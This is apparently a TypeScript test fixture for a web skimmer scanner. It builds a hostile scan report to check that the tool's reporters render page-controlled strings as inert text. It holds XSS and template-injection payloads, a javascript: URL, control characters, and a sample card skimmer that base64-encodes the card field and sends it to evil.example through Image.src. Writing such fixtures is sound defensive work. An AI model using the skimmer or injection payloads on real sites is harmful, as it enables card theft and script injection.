// A hand-made report whose every page-controlled string is hostile: markup that closes <script>,
// template syntax, javascript: URLs, control characters, lone surrogates. Reporters must carry it
// as inert text.
import { createHash } from 'node:crypto';
import type { ScanReport, TargetResult } from '../../src/report/types.js';
import type { RequestRecord, ScriptRecord } from '../../src/artifacts/types.js';

export const XSS = `</script><img src=x onerror="window.__pwned=1;alert(1)">`;
export const TEMPLATE = '{{constructor.constructor("window.__pwned=2")()}} ${window.__pwned=3}';
export const JS_URL = 'javascript:window.__pwned=4//';
export const TITLE = `<title>Pay</title><svg onload=window.__pwned=5><b>bold</b>`;
export const CONTROL = 'ctl\u0000\u0001\u0007\u001b[31m\u000b\u000c\ufffe\ud800end';

export const sha = (s: string) => createHash('sha256').update(s).digest('hex');

export const SKIMMER_SOURCE = [
  '// checkout helper',
  `var banner = "${XSS.replace(/"/g, '\\"')}";`,
  `var tpl = "${TEMPLATE.replace(/"/g, '\\"')}";`,
  'var cc = document.getElementById("cc").value;',
  'var enc = btoa(cc);',
  `new Image().src = "https://evil.example/c?d=" + enc + "&u=${JS_URL}";`,
  '// end',
].join('\n');
export const INLINE_SOURCE = `document.title = "${TITLE.replace(/"/g, '\\"')}"; // ${XSS} ${CONTROL}`;
export const SKIMMER_SHA = sha(SKIMMER_SOURCE);
export const INLINE_SHA = sha(INLINE_SOURCE);

const script = (p: Partial<ScriptRecord> & Pick<ScriptRecord, 'sha256' | 'kind'>): ScriptRecord => ({
  url: null, documentUrl: 'https://shop.example/checkout', size: 100, startLine: 1, startColumn: 1, frameUrl: 'https://shop.example/checkout',
  contextType: 'page', parentSha256: null, stack: null, isModule: false, integrity: null, ...p,
});

const request = (p: Partial<RequestRecord> & Pick<RequestRecord, 'url' | 'type'>): RequestRecord => ({
  method: 'GET', status: 200, thirdParty: false, requestHeaders: {}, responseHeaders: {}, postData: null, initiator: null,
  frameUrl: 'https://shop.example/checkout', contextType: 'page', time: 10, failure: null, ...p,
});

export function hostileReport(opts: { skimmerLine?: number; startedAt?: string } = {}): ScanReport {
  const line = opts.skimmerLine ?? 6;
  const skimmerUrl = `https://shop.example/js/app.js?v=${opts.startedAt ?? '1'}&x=${encodeURIComponent(XSS)}`;
  const bad: TargetResult = {
    url: `https://shop.example/checkout?q=${encodeURIComponent(TITLE)}`,
    finalUrl: 'https://shop.example/checkout',
    verdict: 'compromised',
    partial: false,
    title: `${TITLE} ${TEMPLATE} ${CONTROL}`,
    scripts: [
      script({ url: skimmerUrl, kind: 'external', sha256: SKIMMER_SHA, size: SKIMMER_SOURCE.length }),
      script({ kind: 'inline', sha256: INLINE_SHA, size: INLINE_SOURCE.length, startLine: 12 }),
    ],
    requests: [
      request({ url: 'https://shop.example/checkout', type: 'document', responseHeaders: { 'content-type': 'text/html' } }),
      request({ url: skimmerUrl, type: 'script' }),
      request({
        url: `https://evil.example/c?d=NDExMTExMTExMTExMTExMQ%3D%3D&u=${encodeURIComponent(JS_URL)}`, type: 'image', thirdParty: true, time: 800,
        initiator: { scriptUrl: skimmerUrl, sha256: SKIMMER_SHA, line, column: 1 },
      }),
      request({
        url: 'https://shop.example/api/pay', type: 'fetch', method: 'POST', time: 900,
        requestHeaders: { 'content-type': 'application/json' }, postData: `{"note":"${XSS}","t":"${TEMPLATE}"}`,
        initiator: { scriptUrl: null, sha256: INLINE_SHA, line: 1, column: 5 },
      }),
      request({
        url: 'wss://ws.evil.example/s', type: 'websocket', method: 'GET', status: 101, thirdParty: true, time: 950,
        frames: [
          { dir: 'sent', data: `card=4111111111111111 ${XSS}`, opcode: 1, time: 960 },
          { dir: 'received', data: `ok ${TEMPLATE} ${CONTROL}`, opcode: 1, time: 970 },
        ],
      }),
    ],
    findings: [
      {
        ruleId: 'skimmer', severity: 'critical',
        message: `Card data (card-number) read at line 4, encoded by btoa, is sent by Image.src to ${JS_URL} ${XSS}`,
        script: { url: skimmerUrl, sha256: SKIMMER_SHA }, line, column: 1,
        evidence: {
          source: { line: 4, column: 10, how: `value of ${XSS}`, role: 'card-number', class: 'card' },
          encoding: { name: 'btoa', line: 5, column: 11 },
          sink: { line, column: 1, api: 'Image.src', kind: 'image' },
          destinations: [{ kind: 'literal', url: `https://evil.example/c ${TEMPLATE}`, host: 'evil.example' }],
        },
      },
      {
        ruleId: 'self-removing-script', severity: 'medium', message: `Inline script rewrites the title to ${TITLE}`,
        script: { url: null, sha256: INLINE_SHA }, line: 1, column: 1,
        evidence: { documentUrl: 'https://shop.example/checkout', startLine: 12, kind: 'inline', note: CONTROL },
      },
      {
        ruleId: 'form-action-offsite', severity: 'high', message: `Form posts to ${JS_URL}`,
        script: null, line: null, column: null, evidence: { action: JS_URL },
      },
    ],
    suppressed: [],
    notes: [`collector dom failed: ${XSS}`],
  };
  const clean: TargetResult = {
    url: 'https://clean.example/pay', finalUrl: 'https://clean.example/pay', verdict: 'clean', partial: false, title: 'Pay',
    scripts: [], requests: [request({ url: 'https://clean.example/pay', type: 'document' })], findings: [], suppressed: [], notes: [],
  };
  const broken: TargetResult = {
    url: 'https://down.example/', finalUrl: null, verdict: 'error', partial: false,
    error: { code: 'timeout', message: `gave up after ${XSS} ${CONTROL}` }, scripts: [], requests: [], findings: [], suppressed: [], notes: [],
  };
  const startedAt = opts.startedAt ?? '2025-01-02T03:04:05.000Z';
  return {
    schemaVersion: 1, tool: { name: 'skimscan', version: '0.1.0', rulesVersion: '1.0.0' }, browser: 'Chromium 156.0.0.0',
    options: {}, startedAt, finishedAt: new Date(Date.parse(startedAt) + 12_345).toISOString(),
    targets: [bad, clean, broken], summary: { targets: 3, compromised: 1, suspicious: 0, clean: 1, error: 1 },
  };
}

export const SOURCES: Record<string, string> = { [SKIMMER_SHA]: SKIMMER_SOURCE, [INLINE_SHA]: INLINE_SOURCE };
